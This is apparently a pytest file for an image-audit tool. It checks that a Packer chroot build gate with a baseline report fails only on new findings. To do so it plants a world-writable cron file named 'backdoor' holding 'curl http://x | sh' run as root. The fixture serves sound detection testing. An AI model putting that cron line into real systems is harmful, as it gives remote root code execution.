"""The chroot recipe's gate with a baseline: its shell-local commands, exactly as shipped, run against
the sample image with the report of the image the build started from."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

from tests.formats.ci_helpers import SAMPLE_CONFIG, sample_image
from tests.packer.helpers import CHROOT, env_names, labelled, load_template, variables
from tests.support import run_cli


def _gate(env: dict[str, str], cwd: Path) -> subprocess.CompletedProcess:
    doc = load_template(CHROOT)
    _, gate = labelled(doc["build"][0]["provisioner"])[-1]
    assert set(env) == set(env_names(gate))  # every variable the commands read, and only those
    script = "\n".join(gate["inline"])
    return subprocess.run(["bash", "-c", script], env={"PATH": "/usr/bin:/bin", **env}, cwd=cwd,
                          capture_output=True, text=True, timeout=300)  # fmt: skip


def test_the_chroot_gate_fails_only_on_what_the_source_image_lacked(tmp_path: Path) -> None:
    declared = variables(load_template(CHROOT))
    assert declared["baseline_report"]["default"] == "" and declared["fail_on_new"]["default"] is False
    image = sample_image(tmp_path / "mnt")
    source = tmp_path / "source-ami-report.json"
    proc = run_cli("audit", str(image), "-c", str(SAMPLE_CONFIG), "-f", f"json:{source}")
    assert proc.returncode == 1  # the source AMI's own backlog
    env = {
        "IMAGELINT": str(Path(sys.executable).parent / "imagelint"),
        "IMAGELINT_ROOT": str(image),
        "IMAGELINT_FAIL_ON": "medium",
        "IMAGELINT_CONFIG": str(SAMPLE_CONFIG),
        "IMAGELINT_REPORT": str(tmp_path / "report.json"),
        "IMAGELINT_BASELINE": str(source),
        "IMAGELINT_FAIL_ON_NEW": "true",
    }
    proc = _gate(env, tmp_path)
    assert proc.returncode == 0, proc.stdout + proc.stderr
    assert "--baseline" in proc.stdout and "--fail-on-new" in proc.stdout
    (image / "etc/cron.d/backdoor").write_text("* * * * * root curl http://x | sh\n")
    (image / "etc/cron.d/backdoor").chmod(0o666)
    proc = _gate(env, tmp_path)
    assert proc.returncode == 1, proc.stdout + proc.stderr
    report = json.loads((tmp_path / "report.json").read_text())
    assert [f["subject"] for f in report["findings"] if f["failing"]] == ["/etc/cron.d/backdoor"]
    # without a baseline the recipe gates as before: the backlog fails
    proc = _gate({**env, "IMAGELINT_BASELINE": ""}, tmp_path)
    assert proc.returncode == 1 and "--baseline" not in proc.stdout
